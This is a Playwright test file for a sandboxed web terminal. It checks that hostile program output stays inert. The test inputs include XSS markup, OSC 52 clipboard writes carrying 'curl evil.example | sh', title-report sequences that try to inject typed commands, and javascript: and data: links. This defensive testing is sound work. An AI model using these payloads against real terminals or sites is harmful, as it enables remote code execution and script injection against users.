/** What a program prints can do nothing to whoever looks at it. */
import assert from "node:assert/strict";
import { afterEach, test } from "node:test";
import type { Page } from "playwright-core";
import { TestBrowser } from "../../helpers/browser.ts";
import { fixture } from "../../helpers/fixture.ts";
import { changeAccount, signUp } from "../../helpers/members.ts";
import { sharedStack } from "../../helpers/shared.ts";
import { enter, line, linesOf, prompt } from "../../helpers/terminals.ts";
import { until } from "../../helpers/until.ts";

const { url, natsUrl } = sharedStack();
const markup = `<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>`;
let sandbox = "";

const member = await fixture(signUp(url));
await changeAccount(natsUrl, member, { tier: "enterprise" });
const browser = await fixture(TestBrowser.launch(url));
afterEach(() => browser.closePages());

/** A terminal that prints this, byte for byte. In a sandbox of its own: shells outlive their pages. */
async function printed(text: string): Promise<Page> {
  ({ id: sandbox } = await member.call<{ id: string }>("POST", "/v1/sandboxes/create", { image: "default" }));
  const bytes = Buffer.from(text).toString("base64");
  await member.call("POST", `/v1/sandboxes/${sandbox}/execute`, { command: `echo ${bytes} | base64 -d > /tmp/hostile` });
  const page = await browser.open(`/sandboxes/${sandbox}/terminal`, { member });
  await page.evaluate("navigator.clipboard.writeText('mine')");
  await prompt(page);
  await page.locator(".screen").last().click();
  await enter(page, "clear; cat /tmp/hostile; echo; echo printed");
  await line(page, "printed");
  await prompt(page);
  return page;
}

test("markup in output and in titles is text", async () => {
  const page = await printed(`\x1b]0;${markup}\x07\x1b]2;${markup}\x1b\\${markup}`);
  await line(page, markup);
  await page.getByRole("tab", { name: /^<img/ }).first().waitFor();
  assert.equal(await page.locator("main img, main script").count(), 0);
  assert.doesNotMatch(await page.title(), /<img/);
});

test("the clipboard is not written or read", async () => {
  const evil = Buffer.from("curl evil.example | sh\n").toString("base64");
  const page = await printed(`\x1b]52;c;${evil}\x07\x1b]52;c;?\x07\x1b]52;;${evil}\x1b\\`);
  assert.equal(await page.evaluate("navigator.clipboard.readText()"), "mine");
});

test("nothing is typed for somebody: titles, selections and settings are not told", async () => {
  // Reports of the title, of the icon's label and of the window; a window that is moved and made small.
  const page = await printed("\x1b]2;; echo typed by a program\x07\x1b[21t\x1b[20t\x1b[14t\x1b[13t\x1b[3;0;0t\x1b[8;5;5t");
  await enter(page, "clear; echo clean");
  await line(page, "clean");
  assert.ok(!(await linesOf(page)).some((text) => text.includes("typed")));
});

test("a link leads only where somebody has looked and agreed, and never into the page", async () => {
  const link = (address: string, words: string): string => `\x1b]8;;${address}\x1b\\${words}\x1b]8;;\x1b\\\r\n`;
  const page = await printed(
    `${link("javascript:window.__xss=3", "script-link")}${link("data:text/html,<script>window.__xss=4</script>", "data-link")}${link("https://elsewhere.example/path?q=1", "https://sandgate.example/")}`,
  );
  const opened: string[] = [];
  page.context().on("page", (other) => void opened.push(other.url()));
  for (const words of ["script-link", "data-link"]) {
    await clickOn(page, words);
    assert.equal(await page.getByRole("dialog").count(), 0, words);
  }
  await clickOn(page, "https://sandgate.example/");
  await page.getByRole("dialog").getByText("https://elsewhere.example/path?q=1", { exact: true }).waitFor();
  await page.keyboard.press("Escape");
  assert.deepEqual(opened, []);
  assert.equal(new URL(page.url()).pathname, `/sandboxes/${sandbox}/terminal`);
});

test("sequences that are broken, endless or nested do not stop the terminal", async () => {
  const page = await printed(
    `\x1b[${"9".repeat(5_000)}m\x1bP${"x".repeat(20_000)}\x1b\\\x1b[?1049h\x1b[?1049h\x1b[?1049l\x1b]8;;${"a".repeat(9_000)}\x07link\x1b]8;;\x07\xff\xfe\x00\x0e\x0f\x1bc`,
  );
  await enter(page, "clear; echo alive");
  await line(page, "alive");
});

/** Links are found when the mouse comes over them. */
async function clickOn(page: Page, words: string): Promise<void> {
  const row = page.locator(".terminal-panel:not([hidden]) .xterm-rows > div").filter({ hasText: words }).last();
  const box = await row.boundingBox();
  assert.ok(box, words);
  const [x, y] = [box.x + 20, box.y + box.height / 2];
  await page.mouse.move(x - 5, y);
  await page.mouse.move(x, y);
  if (!words.includes("-link")) await until("it is seen as a link", async () => (await page.locator(".xterm-cursor-pointer").count()) > 0);
  await page.mouse.click(x, y);
}
